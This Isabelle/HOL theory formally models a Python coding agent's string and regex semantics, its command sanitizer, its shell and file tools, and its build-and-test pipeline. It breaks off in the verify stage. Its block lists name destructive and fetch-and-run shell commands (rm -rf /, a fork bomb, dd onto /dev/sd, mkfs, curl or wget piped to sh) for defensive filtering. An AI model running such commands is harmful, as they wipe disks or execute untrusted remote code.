theory Spec2Isabelle
  imports Main
begin

section \<open>Python strings\<close>

text \<open>
  A Python \<open>str\<close> is modelled as an Isabelle \<open>string\<close>: one \<open>char\<close> per code
  point, for the code points U+0000 to U+00FF.  The character predicates below are
  Python's own on that range.
\<close>

definition ord :: "char \<Rightarrow> nat" where
  "ord c = of_char c"

text \<open>\<open>str.isspace\<close> on one character: U+0009..U+000D, U+001C..U+0020, U+0085, U+00A0.\<close>

definition isspace :: "char \<Rightarrow> bool" where
  "isspace c = (let n = ord c in
     (9 \<le> n \<and> n \<le> 13) \<or> (28 \<le> n \<and> n \<le> 32) \<or> n = 133 \<or> n = 160)"

text \<open>\<open>s.startswith(p)\<close>, \<open>s.endswith(p)\<close> and \<open>sub in s\<close>.\<close>

fun startswith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startswith s [] = True"
| "startswith [] (p # ps) = False"
| "startswith (c # cs) (p # ps) = (c = p \<and> startswith cs ps)"

definition endswith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "endswith s p = startswith (rev s) (rev p)"

fun str_in :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_in sub [] = (sub = [])"
| "str_in sub (c # cs) = (startswith (c # cs) sub \<or> str_in sub cs)"

text \<open>\<open>s.strip()\<close>: leading and trailing whitespace removed.\<close>

definition lstrip :: "string \<Rightarrow> string" where
  "lstrip s = dropWhile isspace s"

definition rstrip :: "string \<Rightarrow> string" where
  "rstrip s = rev (dropWhile isspace (rev s))"

definition strip :: "string \<Rightarrow> string" where
  "strip s = rstrip (lstrip s)"


text \<open>\<open>s.lower()\<close>: on U+0000..U+00FF only A..Z and U+00C0..U+00DE (without U+00D7) change.\<close>

definition lower_char :: "char \<Rightarrow> char" where
  "lower_char c = (let n = ord c in
     if (65 \<le> n \<and> n \<le> 90) \<or> (192 \<le> n \<and> n \<le> 222 \<and> n \<noteq> 215)
     then char_of (n + 32) else c)"

definition upper_char :: "char \<Rightarrow> char" where
  "upper_char c = (let n = ord c in
     if (97 \<le> n \<and> n \<le> 122) \<or> (224 \<le> n \<and> n \<le> 254 \<and> n \<noteq> 247)
     then char_of (n - 32) else c)"

definition lower :: "string \<Rightarrow> string" where
  "lower s = map lower_char s"

text \<open>\<open>str(n)\<close> for an integer, and \<open>int(s)\<close> for a string of decimal digits.\<close>

definition digit_char :: "nat \<Rightarrow> char" where
  "digit_char d = char_of (48 + d)"

fun show_nat :: "nat \<Rightarrow> string" where
  "show_nat n = (if n < 10 then [digit_char n] else show_nat (n div 10) @ [digit_char (n mod 10)])"

declare show_nat.simps [simp del]

definition show_int :: "int \<Rightarrow> string" where
  "show_int i = (if i < 0 then CHR ''-'' # show_nat (nat (- i)) else show_nat (nat i))"

definition read_nat :: "string \<Rightarrow> nat" where
  "read_nat ds = foldl (\<lambda>acc d. 10 * acc + (ord d - 48)) 0 ds"

text \<open>\<open>sep.join(xs)\<close>.\<close>

fun join :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "join sep [] = []"
| "join sep [x] = x"
| "join sep (x # y # ys) = x @ sep @ join sep (y # ys)"

text \<open>A text between single quotes, as exception messages show names.\<close>

definition quoted :: "string \<Rightarrow> string" where
  "quoted x = [CHR 0x27] @ x @ [CHR 0x27]"

text \<open>\<open>xs[-n:]\<close> for a positive \<open>n\<close>: the last \<open>n\<close> elements, all of them when there are fewer.\<close>

definition last_n :: "nat \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "last_n n xs = drop (length xs - n) xs"

section \<open>Python exceptions\<close>

text \<open>
  The exceptions the modelled functions can raise.  \<open>exn_str\<close> is \<open>str(e)\<close>; the text
  of an \<open>UnboundLocalError\<close> is CPython 3.11's.
\<close>

datatype exn =
    UnboundLocalError string
  | ValueError string
  | TypeError string
  | AttributeError string
  | OSError string

fun exn_str :: "exn \<Rightarrow> string" where
  "exn_str (UnboundLocalError v) =
     ''cannot access local variable '' @ quoted v @ '' where it is not associated with a value''"
| "exn_str (ValueError m) = m"
| "exn_str (TypeError m) = m"
| "exn_str (AttributeError m) = m"
| "exn_str (OSError m) = m"

section \<open>The regular expressions of the \<open>re\<close> module\<close>

text \<open>
  The fragment of Python's regular expressions that the program writes.  A character
  class item is a literal, a literal code point above U+00FF (which no character of the
  modelled strings equals, but which may fold to one when case is ignored), a range, or one
  of \<open>\s\<close>, \<open>\w\<close>, \<open>\d\<close>.
\<close>

datatype cclass = Chr char | ChrU nat | Range char char | Space | Word | Digit

datatype atom = One cclass | Dot | DotAll | OneOf "cclass list" | NoneOf "cclass list"

datatype regex =
    Eps
  | Atom atom
  | Str string
  | Star atom
  | StarLazy atom
  | Plus atom
  | Bol
  | Eol
  | Seq regex regex
  | Alt regex regex
  | Opt regex
  | Group nat regex

text \<open>\<open>\w\<close> on U+0000..U+00FF: the alphanumeric characters and the underscore.\<close>

definition isword :: "char \<Rightarrow> bool" where
  "isword c = (let n = ord c in
     (48 \<le> n \<and> n \<le> 57) \<or> (65 \<le> n \<and> n \<le> 90) \<or> n = 95 \<or> (97 \<le> n \<and> n \<le> 122)
     \<or> n = 170 \<or> n = 178 \<or> n = 179 \<or> n = 181 \<or> n = 185 \<or> n = 186
     \<or> (188 \<le> n \<and> n \<le> 190) \<or> (192 \<le> n \<and> n \<le> 214) \<or> (216 \<le> n \<and> n \<le> 246)
     \<or> (248 \<le> n \<and> n \<le> 255))"

definition isdigit :: "char \<Rightarrow> bool" where
  "isdigit c = (let n = ord c in 48 \<le> n \<and> n \<le> 57)"

text \<open>
  With \<open>re.IGNORECASE\<close> a literal code point above U+00FF matches a character of
  U+0000..U+00FF only through these case foldings.
\<close>

definition fold_latin1 :: "nat \<Rightarrow> char option" where
  "fold_latin1 cp =
     (if cp = 0x130 \<or> cp = 0x131 then Some (CHR ''i'')
      else if cp = 0x178 then Some (CHR 0xFF)
      else if cp = 0x17F then Some (CHR ''s'')
      else if cp = 0x39C \<or> cp = 0x3BC then Some (CHR 0xB5)
      else if cp = 0x1E9E then Some (CHR 0xDF)
      else if cp = 0x212A then Some (CHR ''k'')
      else if cp = 0x212B then Some (CHR 0xE5)
      else None)"

fun class_matches :: "bool \<Rightarrow> cclass \<Rightarrow> char \<Rightarrow> bool" where
  "class_matches ic (Chr c) x = (if ic then lower_char x = lower_char c else x = c)"
| "class_matches ic (ChrU cp) x = (ic \<and> fold_latin1 cp = Some (lower_char x))"
| "class_matches ic (Range lo hi) x =
     ((ord lo \<le> ord x \<and> ord x \<le> ord hi)
      \<or> (ic \<and> ((ord lo \<le> ord (lower_char x) \<and> ord (lower_char x) \<le> ord hi)
                \<or> (ord lo \<le> ord (upper_char x) \<and> ord (upper_char x) \<le> ord hi))))"
| "class_matches ic Space x = isspace x"
| "class_matches ic Word x = isword x"
| "class_matches ic Digit x = isdigit x"

fun atom_matches :: "bool \<Rightarrow> atom \<Rightarrow> char \<Rightarrow> bool" where
  "atom_matches ic (One k) x = class_matches ic k x"
| "atom_matches ic Dot x = (x \<noteq> CHR 0x0A)"
| "atom_matches ic DotAll x = True"
| "atom_matches ic (OneOf ks) x = list_ex (\<lambda>k. class_matches ic k x) ks"
| "atom_matches ic (NoneOf ks) x = (\<not> list_ex (\<lambda>k. class_matches ic k x) ks)"

text \<open>
  The state of a match: how many characters lie before the current position, the
  rest of the subject, the groups closed so far (the latest binding of a group first) and
  \<open>lastindex\<close>, the group closed last.
\<close>

record mstate =
  pos :: nat
  rest :: string
  groups :: "(nat \<times> string) list"
  lastindex :: "nat option"

definition advance :: "nat \<Rightarrow> mstate \<Rightarrow> mstate" where
  "advance k st = st\<lparr>pos := pos st + k, rest := drop k (rest st)\<rparr>"

definition close_group :: "nat \<Rightarrow> mstate \<Rightarrow> mstate \<Rightarrow> mstate" where
  "close_group n st0 st =
     st\<lparr>groups := (n, take (pos st - pos st0) (rest st0)) # groups st, lastindex := Some n\<rparr>"

fun str_matches :: "bool \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "str_matches ic [] s = True"
| "str_matches ic (p # ps) [] = False"
| "str_matches ic (p # ps) (c # cs) = (class_matches ic (Chr p) c \<and> str_matches ic ps cs)"

text \<open>
  \<open>run ic r st\<close> lists the states in which a match of \<open>r\<close> from \<open>st\<close> can end, in the
  order in which the backtracking matcher tries them: the first alternative before the
  second, a greedy repetition longest first, a lazy one shortest first.  The program
  applies \<open>*\<close> and \<open>+\<close> to single characters and classes only.  \<open>ic\<close> is
  \<open>re.IGNORECASE\<close>.
\<close>

primrec run :: "bool \<Rightarrow> regex \<Rightarrow> mstate \<Rightarrow> mstate list" where
  "run ic Eps st = [st]"
| "run ic (Atom a) st =
     (case rest st of
        [] \<Rightarrow> []
      | c # cs \<Rightarrow> if atom_matches ic a c then [advance 1 st] else [])"
| "run ic (Str p) st = (if str_matches ic p (rest st) then [advance (length p) st] else [])"
| "run ic (Star a) st =
     map (\<lambda>k. advance k st) (rev [0..<Suc (length (takeWhile (atom_matches ic a) (rest st)))])"
| "run ic (StarLazy a) st =
     map (\<lambda>k. advance k st) [0..<Suc (length (takeWhile (atom_matches ic a) (rest st)))]"
| "run ic (Plus a) st =
     map (\<lambda>k. advance k st) (rev [1..<Suc (length (takeWhile (atom_matches ic a) (rest st)))])"
| "run ic Bol st = (if pos st = 0 then [st] else [])"
| "run ic Eol st = (if rest st = [] \<or> rest st = [CHR 0x0A] then [st] else [])"
| "run ic (Seq r1 r2) st = concat (map (run ic r2) (run ic r1 st))"
| "run ic (Alt r1 r2) st = run ic r1 st @ run ic r2 st"
| "run ic (Opt r) st = run ic r st @ [st]"
| "run ic (Group n r) st = map (close_group n st) (run ic r st)"

definition cat :: "regex list \<Rightarrow> regex" where
  "cat rs = foldr Seq rs Eps"

definition alts :: "string list \<Rightarrow> regex" where
  "alts ws = foldr (\<lambda>w r. Alt (Str w) r) (butlast ws) (Str (last ws))"

text \<open>\<open>re.match\<close> and \<open>re.search\<close>: the match object, or \<open>None\<close>.\<close>

definition match_at :: "bool \<Rightarrow> regex \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> mstate option" where
  "match_at ic r p s =
     (case run ic r \<lparr>pos = p, rest = s, groups = [], lastindex = None\<rparr> of
        [] \<Rightarrow> None
      | m # _ \<Rightarrow> Some m)"

definition re_match :: "bool \<Rightarrow> regex \<Rightarrow> string \<Rightarrow> mstate option" where
  "re_match ic r s = match_at ic r 0 s"

fun search_from :: "bool \<Rightarrow> regex \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> mstate option" where
  "search_from ic r p [] = match_at ic r p []"
| "search_from ic r p (c # cs) =
     (case match_at ic r p (c # cs) of
        Some m \<Rightarrow> Some m
      | None \<Rightarrow> search_from ic r (Suc p) cs)"

definition re_search :: "bool \<Rightarrow> regex \<Rightarrow> string \<Rightarrow> mstate option" where
  "re_search ic r s = search_from ic r 0 s"

definition group :: "mstate \<Rightarrow> nat \<Rightarrow> string option" where
  "group m i = map_of (groups m) i"

text \<open>
  \<open>re.sub\<close> for a pattern that is one character class: every matching character is
  replaced; and for a class under \<open>+\<close>: every maximal run of matching characters is
  replaced.
\<close>

definition re_sub_atom :: "atom \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "re_sub_atom a repl s = concat (map (\<lambda>c. if atom_matches False a c then repl else [c]) s)"

fun sub_runs :: "atom \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> string" where
  "sub_runs a repl in_run [] = []"
| "sub_runs a repl in_run (c # cs) =
     (if atom_matches False a c
      then (if in_run then [] else repl) @ sub_runs a repl True cs
      else c # sub_runs a repl False cs)"

definition re_sub_plus :: "atom \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "re_sub_plus a repl s = sub_runs a repl False s"

section \<open>enforce.py: the input sanitizer\<close>

text \<open>\<open>InputSanitizer.FORBIDDEN_PATTERNS\<close>, each compiled with \<open>re.IGNORECASE\<close>.\<close>

definition sp :: regex where
  "sp = Plus (One Space)"

definition sp0 :: regex where
  "sp0 = Star (One Space)"

definition FORBIDDEN_PATTERNS :: "regex list" where
  "FORBIDDEN_PATTERNS =
     [cat [Str ''rm'', sp, Str ''-rf'', sp, Str ''/'', sp0, Eol],
      cat [Str ''rm'', sp, Str ''-rf'', sp, Str ''/*''],
      cat [Str '':()'', sp0, Str ''{''],
      cat [Str ''dd'', sp, Str ''if=/dev/'', Group 1 (alts [''zero'', ''random'', ''urandom'']),
           sp, Str ''of=/dev/sd''],
      Str ''mkfs.'',
      cat [Str ''>'', sp0, Str ''/dev/sd''],
      cat [Str ''mv'', sp, Str ''/'', Atom (One Space)],
      cat [Str ''chmod'', sp, Str ''-R'', sp, Str ''777'', sp, Str ''/'', sp0, Eol],
      cat [Str ''wget'', Star Dot, Str ''|'', sp0, Opt (Group 1 (Str ''ba'')), Str ''sh''],
      cat [Str ''curl'', Star Dot, Str ''|'', sp0, Opt (Group 1 (Str ''ba'')), Str ''sh''],
      cat [Str ''python'', Opt (Str ''3''), sp, Str ''-c'', sp, Star Dot, Str ''import'', sp,
           Str ''os'', Star Dot, Str ''system'', Star Dot, Str ''rm'']]"

text \<open>\<open>is_safe_command\<close>: the first pattern found in the command makes it unsafe.\<close>

fun no_pattern_found :: "regex list \<Rightarrow> string \<Rightarrow> bool" where
  "no_pattern_found [] command = True"
| "no_pattern_found (pattern # ps) command =
     (if re_search True pattern command \<noteq> None then False else no_pattern_found ps command)"

definition is_safe_command :: "string \<Rightarrow> bool" where
  "is_safe_command command = no_pattern_found FORBIDDEN_PATTERNS command"



section \<open>tools.py: the tool layer\<close>

text \<open>
  The tools act on the operating system.  Its answers are not decided by the program, so
  the model takes them from a record of functions over a state of the machine \<open>'w\<close>:
  what running a shell command returns (\<open>subprocess.run\<close>), whether a path exists,
  and the outcome of creating a directory, of writing, reading and listing.  An operation
  that raises returns the text of its exception.
\<close>

datatype proc_result =
    Completed int string string
  | TimeoutExpired
  | ProcRaised string

datatype read_result = ReadOk string | FileNotFound | ReadRaised string

record 'w os =
  subprocess_run :: "string \<Rightarrow> string option \<Rightarrow> nat \<Rightarrow> 'w \<Rightarrow> proc_result \<times> 'w"
  path_exists :: "string \<Rightarrow> 'w \<Rightarrow> bool"
  makedirs :: "string \<Rightarrow> 'w \<Rightarrow> string option \<times> 'w"
  write_text :: "string \<Rightarrow> string \<Rightarrow> 'w \<Rightarrow> string option \<times> 'w"
  read_text :: "string \<Rightarrow> 'w \<Rightarrow> read_result"
  listdir :: "string \<Rightarrow> 'w \<Rightarrow> string + string list"

text \<open>
  The calls of the \<open>logging\<close> module are kept, in order, beside the state of the
  machine.
\<close>

datatype level = INFO | WARNING | ERROR

record 'w sys =
  world :: 'w
  log :: "(level \<times> string) list"

definition logging :: "level \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> 'w sys" where
  "logging lvl msg s = s\<lparr>log := log s @ [(lvl, msg)]\<rparr>"

definition FORBIDDEN_COMMANDS :: "string list" where
  "FORBIDDEN_COMMANDS =
     [''rm -rf /'',
      '':(){ :|:& };:'',
      ''dd if=/dev/zero'',
      ''dd if=/dev/random'',
      ''mkfs'',
      ''> /dev/sda'',
      ''mv / '',
      ''chmod -R 777 /'',
      ''shutdown'',
      ''reboot'',
      ''halt'',
      ''poweroff'',
      ''init 0'',
      ''init 6'']"

fun first_forbidden :: "string list \<Rightarrow> string \<Rightarrow> string option" where
  "first_forbidden [] cmd_lower = None"
| "first_forbidden (forbidden # fs) cmd_lower =
     (if str_in forbidden cmd_lower then Some forbidden else first_forbidden fs cmd_lower)"

definition check_safety :: "string \<Rightarrow> 'w sys \<Rightarrow> bool \<times> 'w sys" where
  "check_safety command s =
     (let cmd_lower = strip (lower command) in
      case first_forbidden FORBIDDEN_COMMANDS cmd_lower of
        Some forbidden \<Rightarrow>
          (False, logging WARNING (''BLOCKED: Forbidden command pattern detected: '' @ forbidden) s)
      | None \<Rightarrow> (True, s))"

definition run_command :: "'w os \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> nat \<Rightarrow> 'w sys \<Rightarrow> string \<times> 'w sys" where
  "run_command os command cwd timeout s =
     (case check_safety command s of
        (False, s1) \<Rightarrow> (''ERROR: Command blocked by safety filter.'', s1)
      | (True, s1) \<Rightarrow>
          (let s2 = logging INFO (''EXEC: '' @ command) s1 in
           case subprocess_run os command cwd timeout (world s2) of
             (Completed returncode stdout stderr, w) \<Rightarrow>
               (if returncode = 0
                then (let output = strip stdout in
                      (stdout,
                       if output \<noteq> [] then logging INFO (''OK: '' @ take 200 output) (s2\<lparr>world := w\<rparr>)
                       else s2\<lparr>world := w\<rparr>))
                else (let err = strip stderr in
                      (''ERROR ['' @ show_int returncode @ '']: '' @ err,
                       logging ERROR (''FAIL ['' @ show_int returncode @ '']: '' @ take 200 err)
                         (s2\<lparr>world := w\<rparr>))))
           | (TimeoutExpired, w) \<Rightarrow>
               (''ERROR: Command timed out after '' @ show_nat timeout @ ''s'',
                logging ERROR (''TIMEOUT: Command exceeded '' @ show_nat timeout @ ''s'')
                  (s2\<lparr>world := w\<rparr>))
           | (ProcRaised e, w) \<Rightarrow>
               (''ERROR: '' @ e, logging ERROR (''EXEC ERROR: '' @ e) (s2\<lparr>world := w\<rparr>))))"

text \<open>\<open>os.path.dirname\<close> of a POSIX path.\<close>

definition dirname :: "string \<Rightarrow> string" where
  "dirname p =
     (let head = rev (dropWhile (\<lambda>c. c \<noteq> CHR ''/'') (rev p)) in
      if head \<noteq> [] \<and> head \<noteq> replicate (length head) (CHR ''/'')
      then rev (dropWhile (\<lambda>c. c = CHR ''/'') (rev head))
      else head)"

text \<open>\<open>os.path.basename\<close> of a POSIX path.\<close>

definition basename :: "string \<Rightarrow> string" where
  "basename p = rev (takeWhile (\<lambda>c. c \<noteq> CHR ''/'') (rev p))"

definition write_file :: "'w os \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> string \<times> 'w sys" where
  "write_file os path content s =
     (let s1 = logging INFO (''WRITE: '' @ path) s in
      case makedirs os (dirname path) (world s1) of
        (Some e, w) \<Rightarrow> (''ERROR: '' @ e, logging ERROR (''WRITE ERROR: '' @ e) (s1\<lparr>world := w\<rparr>))
      | (None, w) \<Rightarrow>
          (case write_text os path content w of
             (Some e, w') \<Rightarrow>
               (''ERROR: '' @ e, logging ERROR (''WRITE ERROR: '' @ e) (s1\<lparr>world := w'\<rparr>))
           | (None, w') \<Rightarrow>
               (''OK: Written '' @ show_nat (length content) @ '' bytes to '' @ path,
                logging INFO (''WRITTEN: '' @ path @ '' ('' @ show_nat (length content) @ '' bytes)'')
                  (s1\<lparr>world := w'\<rparr>))))"

definition read_file :: "'w os \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> string \<times> 'w sys" where
  "read_file os path s =
     (let s1 = logging INFO (''READ: '' @ path) s in
      case read_text os path (world s1) of
        ReadOk content \<Rightarrow>
          (content,
           logging INFO (''READ OK: '' @ path @ '' ('' @ show_nat (length content) @ '' bytes)'') s1)
      | FileNotFound \<Rightarrow>
          (''ERROR: File not found: '' @ path, logging ERROR (''NOT FOUND: '' @ path) s1)
      | ReadRaised e \<Rightarrow> (''ERROR: '' @ e, logging ERROR (''READ ERROR: '' @ e) s1))"

definition make_dir :: "'w os \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> string \<times> 'w sys" where
  "make_dir os path s =
     (let s1 = logging INFO (''MKDIR: '' @ path) s in
      case makedirs os path (world s1) of
        (None, w) \<Rightarrow> (''OK: Directory created: '' @ path, s1\<lparr>world := w\<rparr>)
      | (Some e, w) \<Rightarrow>
          (''ERROR: '' @ e, logging ERROR (''MKDIR ERROR: '' @ e) (s1\<lparr>world := w\<rparr>)))"

definition git_init :: "'w os \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> string \<times> 'w sys" where
  "git_init os path s =
     (let (_, s1) = make_dir os path s;
          (_, s2) = run_command os ''git config --global init.defaultBranch main'' (Some path) 60 s1
      in run_command os ''git init'' (Some path) 60 s2)"

definition git_commit :: "'w os \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> string \<times> 'w sys" where
  "git_commit os path message s =
     (let (_, s1) = run_command os ''git add -A'' (Some path) 60 s;
          (_, s2) = run_command os (''git config user.email '' @ [CHR 0x27] @ ''devos@autonomous.local''
                                     @ [CHR 0x27]) (Some path) 60 s1;
          (_, s3) = run_command os (''git config user.name '' @ [CHR 0x27] @ ''DevOS-Agent'' @ [CHR 0x27])
                      (Some path) 60 s2
      in run_command os (''git commit -m '' @ [CHR 0x22] @ message @ [CHR 0x22]) (Some path) 60 s3)"

text \<open>
  \<open>detect_project_type\<close>: the kinds of project whose markers the directory holds, in
  the order of the table; a marker \<open>*.ext\<close> asks for a file name with that ending.
\<close>

definition indicators :: "(string \<times> string list) list" where
  "indicators =
     [(''python'', [''setup.py'', ''pyproject.toml'', ''requirements.txt'', ''*.py'']),
      (''node'', [''package.json'', ''node_modules'']),
      (''rust'', [''Cargo.toml'']),
      (''go'', [''go.mod'']),
      (''c'', [''Makefile'', ''*.c'', ''*.h'']),
      (''shell'', [''*.sh''])]"

definition marker_found :: "string list \<Rightarrow> string \<Rightarrow> bool" where
  "marker_found files marker =
     (if startswith marker ''*'' then list_ex (\<lambda>f. endswith f (tl marker)) files
      else marker \<in> set files)"

definition detect_project_type :: "'w os \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> string list" where
  "detect_project_type os path s =
     (let detected =
            (case listdir os path (world s) of
               Inl e \<Rightarrow> []
             | Inr files \<Rightarrow>
                 map fst (filter (\<lambda>(ptype, markers). list_ex (marker_found files) markers) indicators))
      in if detected \<noteq> [] then detected else [''unknown''])"

section \<open>executor.py: the failure classifier\<close>

definition failure_indicators :: "string list" where
  "failure_indicators =
     [''Traceback (most recent call last)'',
      ''FAILED'',
      ''Error'',
      ''AssertionError'',
      ''SyntaxError'',
      ''IndentationError'',
      ''NameError'',
      ''TypeError'',
      ''ValueError'',
      ''ImportError'',
      ''ModuleNotFoundError'',
      ''ERRORS'']"

text \<open>
  \<open>_is_test_failure(output)\<close>.  The output of a check is a string or \<open>None\<close>.
\<close>

definition is_test_failure :: "string option \<Rightarrow> bool" where
  "is_test_failure output =
     (case output of
        None \<Rightarrow> True
      | Some output_str \<Rightarrow>
          (let has_failure = list_ex (\<lambda>ind. str_in ind output_str) failure_indicators;
               has_success = (str_in ''OK'' output_str \<or> str_in ''passed'' output_str
                              \<or> endswith (strip output_str) ''0'')
           in if has_success \<and> \<not> str_in ''Traceback'' output_str then False
              else has_failure))"

section \<open>executor.py: the execution pipeline\<close>

text \<open>
  A goal is a dictionary with the optional keys \<open>description\<close>, \<open>name\<close>, \<open>files\<close>
  (a dictionary from file name to content, kept in its order) and \<open>test_cmd\<close>.
\<close>

record goal =
  goal_description :: "string option"
  goal_name :: "string option"
  goal_files :: "(string \<times> string) list option"
  goal_test_cmd :: "string option"

record stage =
  stage_name :: string
  stage_status :: string
  stage_detail :: string
  stage_command :: "string option"

record report =
  report_goal :: string
  report_path :: string
  report_stages :: "stage list"
  report_success :: bool

definition add_stage :: "stage \<Rightarrow> report \<Rightarrow> report" where
  "add_stage st r = r\<lparr>report_stages := report_stages r @ [st]\<rparr>"

text \<open>
  The generation backend, when one is configured: whether it is available, and what its
  three calls return (\<open>None\<close> when it has nothing).  A project plan is a dictionary with
  the optional keys \<open>files\<close> and \<open>test_cmd\<close>.
\<close>

record llm_plan =
  plan_files :: "(string \<times> string) list option"
  plan_test_cmd :: "string option"

record 'w llm =
  is_available :: bool
  generate_project_plan :: "string \<Rightarrow> 'w \<Rightarrow> llm_plan option \<times> 'w"
  generate_code :: "string \<Rightarrow> string \<Rightarrow> 'w \<Rightarrow> string option \<times> 'w"
  generate_fix :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'w \<Rightarrow> string option \<times> 'w"

text \<open>
  \<open>self.llm and self.llm.is_available()\<close>: the backend, when it can be used.  Likewise
  a string that is present and not empty (Python's truth of an optional string).
\<close>

definition usable :: "'w llm option \<Rightarrow> 'w llm option" where
  "usable l = (case l of None \<Rightarrow> None | Some m \<Rightarrow> if is_available m then Some m else None)"

definition truthy :: "string option \<Rightarrow> string option" where
  "truthy v = (case v of None \<Rightarrow> None | Some x \<Rightarrow> if x \<noteq> [] then Some x else None)"

definition MAX_FIX_ATTEMPTS :: nat where
  "MAX_FIX_ATTEMPTS = 3"

definition stage_setup :: "'w os \<Rightarrow> string \<Rightarrow> report \<Rightarrow> 'w sys \<Rightarrow> report \<times> 'w sys" where
  "stage_setup os project_path report s =
     (let s1 = logging INFO (''STAGE [setup]: '' @ project_path) s in
      if \<not> path_exists os project_path (world s1)
      then (let (_, s2) = make_dir os project_path s1;
                (_, s3) = git_init os project_path s2
            in (add_stage \<lparr>stage_name = ''setup'', stage_status = ''ok'',
                            stage_detail = ''created'', stage_command = None\<rparr> report, s3))
      else (add_stage \<lparr>stage_name = ''setup'', stage_status = ''ok'',
                        stage_detail = ''exists'', stage_command = None\<rparr> report, s1))"

text \<open>The loop of \<open>_stage_codegen\<close> over the literal files of the goal.\<close>

fun write_goal_files :: "'w os \<Rightarrow> string \<Rightarrow> (string \<times> string) list \<Rightarrow> 'w sys \<Rightarrow> string list \<times> 'w sys" where
  "write_goal_files os project_path [] s = ([], s)"
| "write_goal_files os project_path ((filename, content) # fs) s =
     (let (_, s1) = write_file os (project_path @ ''/'' @ filename) content s;
          s2 = logging INFO (''  WRITE: '' @ filename) s1;
          (written, s3) = write_goal_files os project_path fs s2
      in (filename # written, s3))"

text \<open>The loop of \<open>_llm_codegen\<close> over the files of the backend's plan.\<close>

fun write_plan_files :: "'w os \<Rightarrow> 'w llm \<Rightarrow> string \<Rightarrow> (string \<times> string) list \<Rightarrow> 'w sys \<Rightarrow> string list \<times> 'w sys" where
  "write_plan_files os m project_path [] s = ([], s)"
| "write_plan_files os m project_path ((filename, file_desc) # fs) s =
     (let (code, w) = generate_code m file_desc filename (world s) in
      case truthy code of
        Some c \<Rightarrow>
          (let (_, s1) = write_file os (project_path @ ''/'' @ filename) c (s\<lparr>world := w\<rparr>);
               s2 = logging INFO (''  LLM WRITE: '' @ filename) s1;
               (written, s3) = write_plan_files os m project_path fs s2
           in (filename # written, s3))
      | None \<Rightarrow> write_plan_files os m project_path fs (s\<lparr>world := w\<rparr>))"

definition llm_codegen :: "'w os \<Rightarrow> 'w llm \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> 'w sys \<Rightarrow> (string list \<times> goal) \<times> 'w sys" where
  "llm_codegen os m goal project_path s =
     (let desc = (case goal_description goal of Some d \<Rightarrow> d | None \<Rightarrow> []);
          (plan, w) = generate_project_plan m desc (world s)
      in case (case plan of None \<Rightarrow> None | Some p \<Rightarrow> map_option (\<lambda>fs. (p, fs)) (plan_files p)) of
           Some (p, fs) \<Rightarrow>
             (let (written, s1) = write_plan_files os m project_path fs (s\<lparr>world := w\<rparr>);
                  goal' = (case plan_test_cmd p of
                             Some c \<Rightarrow> goal\<lparr>goal_test_cmd := Some c\<rparr>
                           | None \<Rightarrow> goal)
              in ((written, goal'), s1))
         | None \<Rightarrow>
             (let (code, w') = generate_code m desc ''main.py'' w in
              case truthy code of
                Some c \<Rightarrow>
                  (let (_, s1) = write_file os (project_path @ ''/main.py'') c (s\<lparr>world := w'\<rparr>)
                   in (([''main.py''], goal), s1))
              | None \<Rightarrow> (([], goal), s\<lparr>world := w'\<rparr>)))"

definition skeleton :: "string \<Rightarrow> string" where
  "skeleton desc =
     ''#!/usr/bin/env python3'' @ [CHR 0x0A] @ replicate 3 (CHR 0x22) @ desc @ replicate 3 (CHR 0x22)
     @ [CHR 0x0A, CHR 0x0A] @ ''def main():'' @ [CHR 0x0A] @ ''    print('' @ [CHR 0x22] @ desc
     @ [CHR 0x22] @ '')'' @ [CHR 0x0A, CHR 0x0A] @ ''if __name__ == '' @ [CHR 0x22] @ ''__main__''
     @ [CHR 0x22] @ '':'' @ [CHR 0x0A] @ ''    main()'' @ [CHR 0x0A]"

definition stage_codegen :: "'w os \<Rightarrow> 'w llm option \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> report \<Rightarrow> 'w sys \<Rightarrow> (goal \<times> report) \<times> 'w sys" where
  "stage_codegen os l goal project_path report s =
     (let s1 = logging INFO ''STAGE [codegen]: Writing files...'' s;
          ((files_written, goal'), s2) =
            (case goal_files goal of
               Some fs \<Rightarrow>
                 (let (written, s') = write_goal_files os project_path fs s1 in ((written, goal), s'))
             | None \<Rightarrow>
                 (case usable l of
                    Some m \<Rightarrow> llm_codegen os m goal project_path s1
                  | None \<Rightarrow>
                      (let desc = (case goal_description goal of Some d \<Rightarrow> d | None \<Rightarrow> ''project'');
                           (_, s') = write_file os (project_path @ ''/main.py'') (skeleton desc) s1
                       in (([''main.py''], goal), s'))))
      in ((goal',
           add_stage \<lparr>stage_name = ''codegen'', stage_status = ''ok'',
                      stage_detail = ''wrote '' @ show_nat (length files_written) @ '' files: ''
                                     @ join '', '' files_written,
                      stage_command = None\<rparr> report), s2))"

definition stage_verify :: "'w os \<Rightarrow> goal \<Rightarrow> string \<Rightarrow> report \<Rightarrow> 'w sys \<Rightarrow> (bool \<times> report) \<times> 'w sys" where
  "stage_verify os goal project_path report s =
     (let s1 = logging INFO ''STAGE [verify]: Running tests...'' s in
      case truthy (goal_test_cmd goal) of
        Some test_cmd \<Rightarrow>
          (let (output, s2) = run_command os test_cmd (Some project_path) 60 s1;
               passed = (\<not> is_test_failure (Some output))
           in ((passed,
                add_stage \<lparr>stage_name = ''verify'',
                           stage_status = (if passed then ''ok'' else ''fail''),
                           stage_detail = take 300 output,
